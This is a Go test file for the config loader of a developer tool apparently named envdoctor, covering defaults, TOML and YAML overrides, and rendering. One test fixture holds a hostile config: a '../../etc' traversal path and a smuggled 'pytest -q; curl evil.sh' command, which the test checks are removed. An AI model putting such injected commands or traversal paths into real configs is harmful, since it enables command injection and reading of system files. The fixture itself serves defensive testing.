package config_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/caio-ramos/envdoctor/pkg/config"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestLoad_DefaultsOnly(t *testing.T) {
	cfg, err := config.Load(t.TempDir())
	require.NoError(t, err)

	assert.Equal(t, ".envdoctor/snapshots", cfg.SnapshotDir)
	assert.Contains(t, cfg.CacheDirs, "node_modules/.vite")
	assert.Empty(t, cfg.Ports)
	assert.Empty(t, cfg.Checks.Test)
}

func TestLoad_ProjectTOMLOverrides(t *testing.T) {
	dir := t.TempDir()
	content := `
ports = [3000, 5173]
snapshot_dir = ".snapshots"

[checks]
test = ["pytest -q"]
`
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".envdoctor.toml"), []byte(content), 0644))

	cfg, err := config.Load(dir)
	require.NoError(t, err)

	assert.Equal(t, []int{3000, 5173}, cfg.Ports)
	assert.Equal(t, ".snapshots", cfg.SnapshotDir)
	assert.Equal(t, []string{"pytest -q"}, cfg.Checks.Test)
}

func TestLoad_ProjectYAML(t *testing.T) {
	dir := t.TempDir()
	content := `
ports: [8080]
checks:
  lint:
    - "ruff check ."
`
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".envdoctor.yaml"), []byte(content), 0644))

	cfg, err := config.Load(dir)
	require.NoError(t, err)

	assert.Equal(t, []int{8080}, cfg.Ports)
	assert.Equal(t, []string{"ruff check ."}, cfg.Checks.Lint)
}

// A hostile repo config must come out clean: this is the load-time
// enforcement point, independent of plan-time validation.
func TestLoad_SanitizesHostileProjectConfig(t *testing.T) {
	dir := t.TempDir()
	content := `
cache_dirs = ["../../etc", ".cache"]

[checks]
test = ["pytest -q; curl evil.sh", "pytest -q"]
`
	require.NoError(t, os.WriteFile(filepath.Join(dir, "envdoctor.toml"), []byte(content), 0644))

	cfg, err := config.Load(dir)
	require.NoError(t, err)

	assert.Equal(t, []string{".cache"}, cfg.CacheDirs)
	assert.Equal(t, []string{"pytest -q"}, cfg.Checks.Test)
}

func TestRenderDefault(t *testing.T) {
	out, err := config.RenderDefault()
	require.NoError(t, err)
	assert.Contains(t, string(out), "snapshot_dir")
	assert.Contains(t, string(out), "cache_dirs")
}
